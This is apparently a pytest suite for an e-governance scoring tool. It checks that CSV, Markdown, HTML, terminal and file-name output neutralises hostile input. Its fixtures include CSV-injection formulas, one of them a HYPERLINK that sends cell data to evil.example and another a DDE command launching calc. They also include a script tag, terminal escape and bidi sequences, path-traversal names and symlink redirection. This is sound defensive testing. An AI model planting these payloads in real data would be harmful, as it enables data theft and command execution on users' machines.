"""Safe output: hostile names, codes, indicator names and band labels written as CSV,
Markdown, HTML, terminal text and file names never run, render or land where they should not."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from egov_score import datasets
from egov_score.cli import main
from egov_score.exceptions import InputError
from egov_score.io.table import csv_text, is_plain_number, neutralise, safe_file_names, write_csv
from egov_score.pipeline import load
from egov_score.plugins.section import Section
from egov_score.render import card as render
from egov_score.render.awards import awards_csv, awards_html, awards_markdown
from egov_score.render.review import review_markdown, review_text, write_cards
from egov_score.render.text_table import printable, render_table
from egov_score.review.awards import AwardRules, select_awards
from egov_score.review.division import Review
from egov_score.review.panel import score_panel
from egov_score.review.report import build_report

SMALL = datasets.path("small")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
SCRIPT = "<script>alert(1)</script>"
CLEAR = "\x1b[2J\x1b]0;pwned\x07"
MARKUP = "| *bold* _it_ [link](http://x) `code` # hash"

#: Small-data codes -> hostile (code, name).
HOSTILE = {
    "D-087": ("../../evil", SCRIPT),
    "D-097": (HYPERLINK, CMD),
    "B-0574": ("a/b", SUM),
    "B-0575": ("a_b", CLEAR + "Behror"),
    "B-0591": ("CON", MARKUP),
    "B-0592": ("C:\\x", "\u202eevil\u202c"),
    "M-0001": ("+1+cmd", "-2+3"),
}


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: formula-leading text that is not a plain number."""
    cells = np.array([c for row in rows for c in row] or [""], dtype=np.str_)
    lead = np.strings.lstrip(cells, " ")
    risky = np.zeros(len(cells), bool)
    for start in ("=", "+", "-", "@", "\t", "\r"):
        risky |= np.strings.startswith(lead, start)
    return cells[risky & ~is_plain_number(cells)].tolist()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small data set with hostile codes and names, indicator names and band labels."""
    out = tmp_path_factory.mktemp("hostile")
    for name in ("units.csv", "values.csv"):
        rows = _rows(SMALL / name)
        for row in rows[1:]:
            code_col, parent_col = (1, 3) if name == "units.csv" else (0, None)
            old = row[code_col]
            if old in HOSTILE:
                row[code_col] = HOSTILE[old][0]
                if name == "units.csv":
                    row[2] = HOSTILE[old][1]
            if parent_col is not None and row[parent_col] in HOSTILE:
                row[parent_col] = HOSTILE[row[parent_col]][0]
        with (out / name).open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh, lineterminator="\n").writerows(rows)
    toml = (SMALL / "framework.toml").read_text(encoding="utf-8")
    toml = toml.replace('name = "Machines inspected and repaired"', f"name = {json.dumps(CMD)}")
    toml = toml.replace('name = "Machines geo-tagged"', f"name = {json.dumps(SCRIPT)}")
    toml += (
        "\n[bands]\nedges = [50, 65, 100]\n"
        f"labels = [{json.dumps(SUM)}, {json.dumps(HYPERLINK)}, {json.dumps(SCRIPT)}, "
        f"{json.dumps(CLEAR)}]\n"
    )
    (out / "framework.toml").write_text(toml, encoding="utf-8")
    return out


@pytest.fixture(scope="module")
def job(hostile: Path):  # type: ignore[no-untyped-def]
    return load(
        units=hostile / "units.csv",
        values=hostile / "values.csv",
        framework=hostile / "framework.toml",
    )


@pytest.fixture(scope="module")
def review(job):  # type: ignore[no-untyped-def]
    panel = score_panel(job)
    return Review(panel=panel, period=panel.periods[-1], hierarchy=job.hierarchy)


# -- the CSV writer ---------------------------------------------------------------------------


def test_neutralise_catches_formulas_after_spaces_tabs_and_line_breaks() -> None:
    cells = np.array(["  =1+1", " @SUM(1)", "\tx", "\rx", "\nx", CMD, "Alwar", " x"])
    assert neutralise(cells).tolist() == [
        "'  =1+1",
        "' @SUM(1)",
        "'\tx",
        "'\rx",
        "'\nx",
        "'" + CMD,
        "Alwar",
        " x",
    ]


def test_plain_numbers_are_recognised_exactly() -> None:
    cells = ["-1.5", "+2", ".5", "-3e-4", " -2 ", "1E+5", "-", "--5", "-.", "1e", "-inf", "-1+1"]
    assert is_plain_number(np.array(cells)).tolist() == [True] * 6 + [False] * 6


def test_write_csv_keeps_numbers_numeric_and_neutralises_text_and_headers(tmp_path: Path) -> None:
    write_csv(
        tmp_path / "x.csv",
        {
            HYPERLINK: np.array([CMD, "-1.5", "  @x"]),
            "value": ["-2.5", None, SUM],
            "score": np.array([-1.5, np.nan, 3.0]),
        },
    )
    rows = _rows(tmp_path / "x.csv")
    assert rows[0][0] == "'" + HYPERLINK
    assert rows[1] == ["'" + CMD, "-2.5", "-1.5"]
    assert rows[2] == ["-1.5", "", ""]
    assert rows[3] == ["'  @x", "'" + SUM, "3.0"]
    assert csv_text({"a": ["x"]}) == "a\nx\n"


def test_score_csvs_neutralise_every_hostile_cell(job, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    paths = job.score("2021-01").write_csv(tmp_path)
    for path in paths:
        rows = _rows(path)
        assert _formula_cells(rows) == [], path
    assert any("'" + SUM in row for row in _rows(tmp_path / "block.csv"))


def test_card_csvs_neutralise_names_codes_indicators_and_bands(review) -> None:  # type: ignore[no-untyped-def]
    for code in ("../../evil", HYPERLINK, "a/b", "a_b"):
        rows = list(csv.reader(io.StringIO(render.to_csv(review.report(code)))))
        assert _formula_cells(rows) == [], code
        assert rows[1][1] == ("'" + code if code.startswith("=") else code)


def test_awards_csv_neutralises_names_and_codes(job) -> None:  # type: ignore[no-untyped-def]
    panel = score_panel(job)
    rules = AwardRules(levels=("district", "block", "machine"), min_months=1, min_band=None)
    awards = select_awards(panel, "republic_day", 2021, rules)
    rows = list(csv.reader(io.StringIO(awards_csv(awards))))
    assert _formula_cells(rows) == []
    names = [row[4] for row in rows]
    assert "'" + CMD in names
    assert "'" + SUM in names
    assert "'-2+3" in names
    md = awards_markdown(awards)
    assert "<script>" not in md
    assert "\\<script\\>" in md
    assert "<script>" not in awards_html(awards)


def test_plugin_section_cells_are_neutralised(review) -> None:  # type: ignore[no-untyped-def]
    import attrs

    card = review.report("a/b")
    section = Section(key="x", title=HYPERLINK, header=("a", "b"), rows=((CMD, SUM),))
    text = render.to_csv(attrs.evolve(card, sections=(section,)))
    rows = list(csv.reader(io.StringIO(text)))
    assert _formula_cells(rows) == []
    assert rows[-1][:3] == ["x", "'" + CMD, "'" + SUM]


# -- Markdown and HTML ------------------------------------------------------------------------


def test_markdown_escapes_html_and_markdown_in_data(review) -> None:  # type: ignore[no-untyped-def]
    md = render.to_markdown(review.report("../../evil"))
    assert SCRIPT not in md
    assert "\\<script\\>alert(1)\\</script\\>" in md
    block = render.to_markdown(review.report("CON"))
    assert "\\| \\*bold\\* \\_it\\_ \\[link\\](http://x) \\`code\\` \\# hash" in block
    division = review_markdown(review)
    assert SCRIPT not in division
    assert "\\<script\\>" in division


def test_md_text_escapes_line_starts() -> None:
    assert render.md_text("- item", line_start=True) == "\\- item"
    assert render.md_text("1. one", line_start=True) == "1\\. one"
    assert render.md_text("=====", line_start=True) == "\\====="
    assert render.md_text("a\nb\r\n# c") == "a b  \\# c"


def test_html_escapes_everything_from_data(review) -> None:  # type: ignore[no-untyped-def]
    page = render.to_html(review.report("../../evil"))
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.count("<script") == 0
    assert "<title>" in page
    assert SCRIPT not in page.split("<title>")[1].split("</title>")[0]


# -- terminals --------------------------------------------------------------------------------


def test_printable_shows_controls_and_bidi_as_escapes() -> None:
    assert printable("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert printable("\u202eevil\u202c\x9b\x7f") == "\\u202eevil\\u202c\\x9b\\x7f"
    assert printable("line\nnext\tcol") == "line\nnext\tcol"
    assert printable("क्ष\u200d") == "क्ष\u200d"  # joiners Devanagari needs are kept
    assert printable("a\nb", cell=True) == "a b"


def test_terminal_tables_and_cards_strip_control_characters(review) -> None:  # type: ignore[no-untyped-def]
    table = render_table(["h\x1b"], [[CLEAR]])
    assert "\x1b" not in table
    assert "\\x1b[2J" in table
    text = render.to_text(review.report("a_b"))
    assert "\x1b" not in text
    assert "\x07" not in text
    summary = review_text(review)
    assert "\x1b" not in summary
    assert "\u202e" not in summary


# -- file names -------------------------------------------------------------------------------


def test_safe_file_names_map_hostile_codes_inside_and_apart() -> None:
    codes = ["../../evil", "a/b", "a_b", "C:\\x", "CON", "nul.txt", "x\x00y", "ok-1", "A_B", ".."]
    names = safe_file_names(codes)
    assert names[names.index("ok-1")] == "ok-1"
    assert names[2].startswith("a_b-")
    assert len({n.casefold() for n in names}) == len(codes)
    for name in names:
        assert "/" not in name
        assert "\\" not in name
        assert "\x00" not in name
        assert ":" not in name
        assert not name.startswith(".")
        assert name.split(".")[0].upper() not in {"CON", "NUL"}
    assert safe_file_names(["D-087", "B-0574"]) == ["D-087", "B-0574"]


def test_write_cards_keeps_every_file_inside_its_folder(review, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "deep" / "cards"
    written = write_cards(review, out, formats=("md", "csv"))
    root = out.resolve()
    assert all(p.resolve().is_relative_to(root) for p in written)
    assert not (tmp_path / "evil.md").exists()
    assert not (tmp_path / "deep" / "evil.md").exists()
    index = json.loads((out / "index.json").read_text(encoding="utf-8"))
    files = index["files"]["block"]
    assert len(set(files.values())) == len(files) == 4
    assert files["a/b"] != files["a_b"]
    assert "card: @SUM(1+1) (" in (out / f"{files['a/b']}.md").read_text(encoding="utf-8")


def test_score_csv_names_come_from_safe_level_names(job, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import attrs

    result = job.score("2021-01")
    evil = attrs.evolve(result.levels[0], level="../../top")
    paths = attrs.evolve(result, levels=(evil, *result.levels[1:])).write_csv(tmp_path / "o")
    assert all(p.parent == tmp_path / "o" for p in paths)


def test_build_report_is_unchanged_for_plain_codes() -> None:
    job = datasets.load("small")
    panel = score_panel(job)
    card = build_report(panel, "D-087", panel.periods[-1], hierarchy=job.hierarchy)
    rows = list(csv.reader(io.StringIO(render.to_csv(card))))
    assert rows[0] == ["section", "item", "label", "value", "score", "rank", "peers", "change"]
    assert rows[1][:3] == ["unit", "D-087", "Alwar"]


# -- properties -------------------------------------------------------------------------------

_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs",)) | st.sampled_from("=+-@ \t\r\n'\"|<>")
)


@given(st.lists(_TEXT, min_size=1, max_size=20))
def test_no_written_cell_is_a_formula_and_every_cell_comes_back(cells: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(csv_text({"x": cells}), newline="")))
    back = [row[0] if row else "" for row in rows[1:]]
    assert len(back) == len(cells)
    assert _formula_cells([[c] for c in back]) == []
    for sent, got in zip(cells, back, strict=True):
        kept = sent.replace("\0", "")  # NUL is dropped
        assert got in (kept, "'" + kept)


@given(st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=20))
def test_numbers_written_as_text_stay_plain_numbers(values: list[float]) -> None:
    cells = [repr(v) for v in values]
    rows = list(csv.reader(io.StringIO(csv_text({"x": cells}))))
    assert [float(r[0]) for r in rows[1:]] == values


@given(_TEXT)
def test_markdown_and_terminal_text_hold_no_raw_syntax_or_controls(text: str) -> None:
    md = render.md_text(text)
    unescaped = md.replace("\\\\", "").replace("\\<", "").replace("\\|", "").replace("\\`", "")
    assert "<" not in unescaped
    assert "|" not in unescaped
    assert "`" not in unescaped
    assert "\n" not in md
    shown = printable(text)
    assert not any((ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert "\u202e" not in shown


@given(st.lists(_TEXT, min_size=1, max_size=8, unique=True))
def test_safe_file_names_are_plain_and_distinct(codes: list[str]) -> None:
    names = safe_file_names(codes)
    assert len({n.casefold() for n in names}) == len(codes)
    for name in names:
        assert name
        assert not name.startswith((".", " "))
        assert all(c.isalnum() or c in "-_." for c in name)


def test_a_symbolic_link_out_of_the_folder_is_refused(review, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "cards"
    out.mkdir()
    (out / "district").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(InputError, match="every output file must be written inside"):
        write_cards(review, out, formats=("md",))
    assert list(elsewhere.iterdir()) == []


def test_cli_score_of_hostile_files_prints_no_control_characters(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ["score", "--units", str(hostile / "units.csv"), "--values"]
    args += [str(hostile / "values.csv"), "--framework", str(hostile / "framework.toml")]
    assert main([*args, "--period", "2021-01", "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert SCRIPT in out  # shown as the text it is
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        ".egov-score.json",  # the manifest of every output folder (docs/output.md)
        "block.csv",
        "district.csv",
        "division.csv",
        "machine.csv",
    ]


def test_score_csvs_are_not_written_through_a_symbolic_link(tmp_path: Path) -> None:
    # red-team finding: a link planted where a level's CSV goes sent the output elsewhere
    from egov_score import datasets
    from egov_score.cli import main

    small = datasets.path("small")
    victim = tmp_path / "victim.csv"
    out = tmp_path / "out"
    out.mkdir()
    (out / "district.csv").symlink_to(victim)
    status = main(
        [
            "score",
            "--units",
            str(small / "units.csv"),
            "--values",
            str(small / "values.csv"),
            "--framework",
            str(small / "framework.toml"),
            "--period",
            "2021-01",
            "--out",
            str(out),
            "--quiet",
        ]
    )
    assert status == 2
    assert not victim.exists()
